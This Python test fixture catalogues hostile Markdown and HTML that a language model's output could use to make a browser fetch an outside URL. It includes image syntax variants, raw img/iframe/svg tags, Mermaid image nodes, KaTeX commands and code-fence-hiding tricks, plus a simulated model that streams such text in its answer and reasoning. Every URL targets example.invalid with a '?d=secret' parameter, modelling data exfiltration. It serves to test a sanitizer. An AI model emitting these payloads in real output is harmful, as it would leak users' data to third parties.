"""Hostile Markdown: what a model could write to make the browser fetch a URL of its choosing.

Every URL points at ``example.invalid`` (a name that never resolves: a test counts the
attempted requests) and carries its case's name in the path, so a request names the case
that caused it. ``markdown_page.py`` renders each case in Chromium; the unit tests of
``hydra.ui.safe_markdown`` read them too. ``scripted_output`` makes a simulated node answer
(and think) hostile text.
"""
from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from hydra.sim import textgen

HOST = "http://example.invalid"


def url(case: str) -> str:
    return f"{HOST}/{case}.png?d=secret"


HOSTILE: dict[str, str] = {
    "inline": f"Look: ![chart]({url('inline')})",
    "title": f'![t]({url("title")} "a title")',
    "angle": f"![x](<{HOST}/angle with space.png>)",
    "nested-brackets": f"![a [b] c]({url('nested-brackets')})",
    "line-break": f"![alt\ntext](\n{url('line-break')}\n)",
    "reference": f"![logo][r]\n\n[r]: {url('reference')}",
    "collapsed": f"![Collapsed][]\n\n[collapsed]: {url('collapsed')}",
    "shortcut": f"![shortcut]\n\n[shortcut]: {url('shortcut')} 'title'",
    "protocol-relative": "![x](//example.invalid/protocol-relative.png)",
    "uppercase-scheme": "![x](HTTP://EXAMPLE.INVALID/uppercase-scheme.png)",
    "in-link": f"[![inner]({url('in-link')})]({HOST}/clicked-only)",
    "in-table": f"| a | b |\n|---|---|\n| ![t]({url('in-table')}) | x |",
    "in-list": f"- item\n  ![li]({url('in-list')})",
    "in-quote": f"> quoted ![q]({url('in-quote')})",
    "escaped-backslash": f"\\\\![e]({url('escaped-backslash')})",
    "balanced-parens": f"![p]({HOST}/balanced-parens/(x).png)",
    "attributes": f"![x]({url('attributes')}){{width=10}}",
    "after-fence": f"```\ncode\n```\n![after]({url('after-fence')})",
    "fence-in-list-item-ends": f"- a\n  ```\n  x\n![out]({url('fence-in-list-item-ends')})\n  ```",
    # Streamlit turns math on only when it sees "$$...$$" outside code: the last line does that.
    "math-hides-fence": f"$$\n```\n$$\n![m]({url('math-hides-fence')})\n```\n\n$$x$$",
    "indented-close": f"```\n    ```\n```\n![ic]({url('indented-close')})\n```",
    "directive-hides-fence": f":::note\n```\n:::\n![d]({url('directive-hides-fence')})\n```",
    "in-directive": f":::note\n![d]({url('in-directive')})\n:::",
    "html-block-hides-fence": f"<div>\n```\n\n![h]({url('html-block-hides-fence')})\n```",
    "mermaid": f'```mermaid\nflowchart LR\n  A@{{ img: "{url("mermaid")}", label: "m", pos: "t", h: 60, constraint: "on" }}\n```',
    "mermaid-upper": f'~~~ MerMaid\nflowchart LR\n  A@{{ img: "{url("mermaid-upper")}", label: "m", pos: "t", h: 60 }}\n~~~',
    "mermaid-entity": f'```&#109;ermaid\nflowchart LR\n  A@{{ img: "{url("mermaid-entity")}", label: "m", pos: "t", h: 60 }}\n```',
    "mermaid-in-list": f'- ```mermaid\n  flowchart LR\n    A@{{ img: "{url("mermaid-in-list")}", label: "m", pos: "t", h: 60 }}\n  ```',
    # Shown as text by Streamlit (no unsafe_allow_html): here to prove it stays so.
    "raw-img": f'<img src="{url("raw-img")}"> <IMG SRC="{url("raw-img-upper")}">',
    "raw-iframe": f'<iframe src="{url("raw-iframe")}"></iframe>',
    "raw-media": f'<video src="{url("raw-video")}"></video><audio src="{url("raw-audio")}"></audio>'
                 f'<picture><source srcset="{url("raw-source")}"></picture>',
    "raw-link-object": f'<link rel="stylesheet" href="{url("raw-link")}"><object data="{url("raw-object")}"></object>',
    "raw-style-url": f'<div style="background:url({url("raw-style")})">x</div>',
    "raw-svg-image": f'<svg><image href="{url("raw-svg-image")}"/></svg>',
    "entity-encoded": f"&#33;[x]({url('entity-encoded')}) &lt;img src=\"{url('entity-img')}\"&gt;",
    "katex": f"$\\includegraphics{{{url('katex')}}}$ and $\\href{{{url('katex-href')}}}{{x}}$",
    "autolink": f"<{url('autolink')}> and www.example.invalid/literal",
}

# Cases that make unprotected Streamlit Markdown fetch (the Chromium test checks this stays true,
# so a change in Streamlit that adds a way to fetch shows up as a failing control, not silence).
FETCHING_RAW = {"inline", "title", "angle", "nested-brackets", "line-break", "reference", "collapsed", "shortcut",
                "protocol-relative", "uppercase-scheme", "in-link", "in-table", "in-list", "in-quote", "escaped-backslash",
                "balanced-parens", "attributes", "after-fence", "fence-in-list-item-ends", "math-hides-fence",
                "indented-close", "html-block-hides-fence", "directive-hides-fence", "in-directive"}
# These fetch too, but Streamlit draws several diagrams of a page at once and one of them now and
# then fails to draw: the control asks for one of them at least.
MERMAID_RAW = {"mermaid", "mermaid-upper", "mermaid-entity", "mermaid-in-list"}


# --- a simulated model that answers with hostile text -----------------------------------------

MARKER = "[hostile-output]"  # a prompt holding this gets the answer and the thinking below
ANSWER = (f"Here is the chart: ![answer-inline]({url('answer-inline')})\n\n"
          f'Raw HTML: <img src="{url("answer-raw-img")}"> <iframe src="{url("answer-iframe")}"></iframe>\n\n'
          f"By reference: ![answer-reference][ref]\n\n[ref]: {url('answer-reference')}\n\n"
          f'```mermaid\nflowchart LR\n  A@{{ img: "{url("answer-mermaid")}", label: "m", pos: "t", h: 60 }}\n```\n\n'
          "In Rust:\n```rust\nlet v = vec![1, 2];\n```\n\nThat is all. ")
THINKING = (f"Let me draw it: ![thinking-inline]({url('thinking-inline')}) "
            f'and <img src="{url("thinking-raw-img")}"> then answer. ')


def pieces(text: str, size: int = 5) -> list[str]:
    """``text`` in chunks of ``size`` characters: every image arrives split over several chunks."""
    return [text[i:i + size] for i in range(0, len(text), size)]


@contextmanager
def scripted_output(marker: str = MARKER, *, answer: str = ANSWER, thinking: str = THINKING) -> Iterator[None]:
    """While open, simulated nodes of this process answer a prompt holding ``marker`` with ``answer``
    and think ``thinking`` (in small chunks), then go on with their usual words (``hydra.sim.textgen``)."""
    real_content, real_thinking = textgen.content_tokens, textgen.thinking_tokens

    def content_tokens(model: str, node: str, prompt: str) -> Iterator[str]:
        if marker in prompt:
            yield from pieces(answer)
        yield from real_content(model, node, prompt)

    def thinking_tokens(model: str, prompt: str) -> Iterator[str]:
        if marker in prompt:
            yield from pieces(thinking)
        yield from real_thinking(model, prompt)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(textgen, "content_tokens", content_tokens)
        patch.setattr(textgen, "thinking_tokens", thinking_tokens)
        yield
